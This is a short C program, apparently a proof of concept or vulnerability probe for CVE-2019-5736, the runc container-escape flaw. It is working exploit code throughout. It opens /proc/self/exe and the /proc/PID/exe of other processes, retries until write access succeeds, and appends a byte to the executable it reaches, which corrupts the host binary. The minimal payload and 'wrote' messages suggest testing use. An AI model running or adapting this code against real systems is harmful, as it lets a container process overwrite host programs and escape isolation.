/*
 * exe.c - CVE-2019-5736: overwrites the program that started us
 *
 *     exe keep FILE...   opens each path (its last program: /proc/self/exe of a program
 *                        that ran as "#!/proc/self/exe"), and tries to write to it
 *     exe watch          looks for processes that are not ours and writes to their
 *                        /proc/PID/exe as soon as it can be opened
 * Says "wrote PATH NAME" for each that could be opened for writing.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void
try(const char *path)
{
	struct stat own, st;
	char self[64];
	char name[300] = "";
	int fd = open(path, O_PATH);

	if (fd < 0 || fstat(fd, &st) < 0 || stat("/proc/self/exe", &own) < 0 ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
		close(fd);
		return;
	}
	(void)!readlink(path, name, sizeof name - 1);
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 20000; i++) {
		int w = open(self, O_WRONLY | O_APPEND);

		if (w >= 0) {
			printf("wrote %s %s\n", path, name);
			(void)!write(w, "#", 1);
			close(w);
			break;
		}
		if (errno != ETXTBSY)
			break;
	}
	close(fd);
}

int
main(int argc, char **argv)
{
	time_t end = time(NULL) + 4;
	struct dirent *e;
	char path[300];

	setbuf(stdout, NULL);
	for (int i = 2; i < argc; i++)
		try(argv[i]);
	while (argc == 2 && time(NULL) < end) {
		DIR *d = opendir("/proc");

		while ((e = readdir(d)) != NULL) {
			if (atoi(e->d_name) <= 1 || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			try(path);
		}
		closedir(d);
	}
	return 0;
}
